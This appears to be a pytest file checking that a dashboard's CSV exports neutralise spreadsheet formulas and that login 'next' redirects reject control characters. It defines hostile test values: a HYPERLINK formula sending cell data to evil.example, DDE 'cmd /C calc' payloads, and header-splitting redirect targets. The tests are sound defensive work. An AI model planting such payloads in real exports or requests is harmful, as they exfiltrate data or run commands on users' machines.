"""Input an attacker chooses: formula owners in CSV exports, timestamps outside
Python's range, header-splitting ``next`` targets. None may reach a spreadsheet as
a formula, and none may give a 500."""

from __future__ import annotations

import csv
import io
import json

import pytest

from app.audit.export import csv_cell
from tests.dashboard_helpers import log_in, make_user, soup

pytestmark = pytest.mark.usefixtures("backend")

HOSTILE_OWNERS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.fixture
def viewer(fake_app):
    make_user(fake_app, "vera", role="viewer")
    client = fake_app.test_client()
    assert log_in(client, "vera").status_code == 303
    return client


@pytest.fixture
def hostile_history(service):
    for n, owner in enumerate(HOSTILE_OWNERS):
        service.acquire(f"job:{n}", owner, ttl=60, actor="tok")
    service.force_release("job:0", actor="alice", reason="=cmd|' /C calc'!A0")
    return service


def test_csv_cell_prefixes_exactly_the_formula_starts():
    for start in "=+-@\t\r":
        assert csv_cell(start + "x") == "'" + start + "x"
    for safe in ("w-1", "job:1", " =x", "2026-11-30T09:00:00Z", "", "'quoted"):
        assert csv_cell(safe) == safe
    assert csv_cell(None) == ""
    assert csv_cell(-1) == -1  # numbers are numbers, not text a sheet parses


def test_csv_export_neutralises_formula_owners_and_reasons(viewer, hostile_history):
    response = viewer.get("/audit/export.csv")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    owners = {row["owner"] for row in rows if row["owner"]}
    assert owners == {"'" + owner for owner in HOSTILE_OWNERS}
    reasons = {row["reason"] for row in rows if row["reason"]}
    assert reasons == {"'=cmd|' /C calc'!A0"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_jsonl_export_keeps_the_values_as_they_are(viewer, hostile_history):
    text = viewer.get("/audit/export.jsonl").get_data(as_text=True)
    owners = {json.loads(line)["owner"] for line in text.splitlines()}
    assert set(HOSTILE_OWNERS) <= owners


def test_cli_csv_export_neutralises_formulas_too(fake_app, hostile_history):
    result = fake_app.test_cli_runner().invoke(
        args=["events", "export", "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output, newline="")))
    assert {row["owner"] for row in rows if row["owner"]} == {
        "'" + owner for owner in HOSTILE_OWNERS
    }


# -- timestamps outside the range ----------------------------------------------------

OUT_OF_RANGE = [
    "0001-01-01T00:00+01:00",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-01:00",
]
EDGES = ["0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999999Z"]


@pytest.mark.parametrize("value", OUT_OF_RANGE)
@pytest.mark.parametrize("field", ["since", "until"])
def test_audit_page_and_export_say_400_for_an_instant_out_of_range(
    viewer, field, value
):
    page = viewer.get("/audit", query_string={field: value})
    assert page.status_code == 400
    assert "must be a date and time" in soup(page).get_text()
    export = viewer.get("/audit/export.csv", query_string={field: value})
    assert export.status_code == 400
    assert field in export.get_data(as_text=True)


@pytest.mark.parametrize("value", OUT_OF_RANGE)
def test_api_and_cli_refuse_an_instant_out_of_range(api, fake_app, value):
    response = api.get("/api/v1/events", query_string={"since": value})
    assert response.status_code == 400
    [error] = response.get_json()["errors"]
    assert error["field"] == "since"
    assert error["message"].startswith("is out of range")
    result = fake_app.test_cli_runner().invoke(
        args=["events", "export", "--format", "jsonl", "--until", value]
    )
    assert result.exit_code == 2
    assert f"{value!r} is out of range" in result.output


@pytest.mark.parametrize("value", EDGES)
def test_the_first_and_last_instants_are_valid_filters(api, viewer, fake_app, value):
    """Accepted everywhere, and every database compares them without an error."""
    assert api.get("/api/v1/events", query_string={"since": value}).status_code == 200
    assert api.get("/api/v1/events", query_string={"until": value}).status_code == 200
    assert viewer.get("/audit", query_string={"since": value}).status_code == 200
    assert viewer.get("/audit", query_string={"until": value}).status_code == 200
    result = fake_app.test_cli_runner().invoke(
        args=["events", "export", "--format", "jsonl", "--since", value]
    )
    assert result.exit_code == 0, result.output


# -- next targets ----------------------------------------------------------------------

BAD_NEXT = [
    "/x\r\nY:z",
    "/x\nSet-Cookie: a=b",
    "/\t/evil.example",
    "/\x00",
    "/x\x7f",
]


@pytest.mark.parametrize("target", BAD_NEXT)
def test_login_next_with_control_characters_redirects_home(viewer, target):
    """Logged in, /login?next=... redirects at once: it must stay a safe local one."""
    response = viewer.get("/login", query_string={"next": target})
    assert response.status_code == 302
    assert response.headers["Location"] == "/"


@pytest.mark.parametrize("target", BAD_NEXT)
def test_login_form_next_with_control_characters_goes_home(fake_app, target):
    make_user(fake_app, "olga")
    client = fake_app.test_client()
    response = log_in(client, "olga", next=target)
    assert response.status_code == 303
    assert response.headers["Location"] == "/"


def test_action_next_with_control_characters_goes_to_the_lock_page(app):
    from app.locks.service import lock_service
    from tests.dashboard_helpers import csrf_token

    make_user(app, "olga")
    with app.app_context():
        fence = lock_service().acquire("job:1", "w-1", ttl=60).lock.fence
    operator = app.test_client()
    log_in(operator, "olga")
    response = operator.post(
        "/locks/job:1/release",
        data={
            "reason": "test",
            "fence": str(fence),
            "csrf_token": csrf_token(operator, "/"),
            "next": "/x\r\nY:z",
        },
    )
    assert response.status_code == 303
    assert response.headers["Location"] == "/locks/job:1"
